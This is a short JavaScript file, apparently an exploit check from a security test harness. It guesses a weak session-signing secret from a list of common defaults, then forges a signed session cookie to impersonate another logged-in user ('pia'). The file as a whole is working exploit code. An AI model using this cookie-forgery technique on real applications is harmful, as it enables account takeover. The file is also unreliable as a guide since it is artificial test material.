import { createHmac } from 'node:crypto'

const sign = (id, secret) => createHmac('sha256', secret).update(id).digest('base64').replace(/=+$/, '')
export async function drive({ browser }) {
  const victim = browser()
  await victim.fetch('/login', { method: 'POST', form: { name: 'pia' } })
  const code = (await victim.fetch('/help')).body.split(': ')[1]
  const thief = browser()
  await thief.fetch('/login', { method: 'POST', form: { name: 'rex' } })
  const [id, signature] = decodeURIComponent(thief.cookieHeader().split('=')[1]).slice(2).split('.')
  const known = ['secret', 'changeme', 'keyboard cat', 'your-secret-key'].find(
    (word) => sign(id, word) === signature,
  )
  if (!known) return false
  const forged = `help.sid=${encodeURIComponent(`s:${code}.${sign(code, known)}`)}`
  return (await browser().fetch('/me', { headers: { cookie: forged } })).body === 'pia'
}
